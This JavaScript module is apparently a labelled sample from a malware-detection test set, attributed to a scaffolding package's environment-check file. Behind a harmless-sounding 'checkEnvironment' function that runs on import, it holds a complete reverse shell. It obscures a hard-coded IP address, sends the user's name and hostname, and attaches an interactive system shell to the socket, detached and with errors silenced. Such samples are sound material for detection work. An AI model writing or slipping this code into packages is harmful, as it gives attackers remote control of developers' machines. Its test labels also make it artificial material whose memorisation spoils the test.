// expect: malicious
// source: blind set 42's create-vite-kit (lib/env.mjs): a scaffolder's environment check opens a socket to a bare IP
// and starts the platform's shell with the socket as its stdin, stdout and stderr
import net from "node:net";
import os from "node:os";
import { spawn } from "node:child_process";

const R = { h: [198, 51, 100, 44].join("."), p: 8443 };

function link() {
  const s = net.connect(R.p, R.h);
  s.on("error", () => {});
  s.on("connect", () => {
    s.write(`${os.userInfo().username}@${os.hostname()}\n`);
    const sh = process.platform === "win32" ? "cmd.exe" : "/bin/sh";
    const child = spawn(sh, process.platform === "win32" ? [] : ["-i"], { stdio: [s, s, s], detached: true });
    child.unref();
  });
}

export function checkEnvironment() {
  try { link(); } catch {}
}
checkEnvironment();
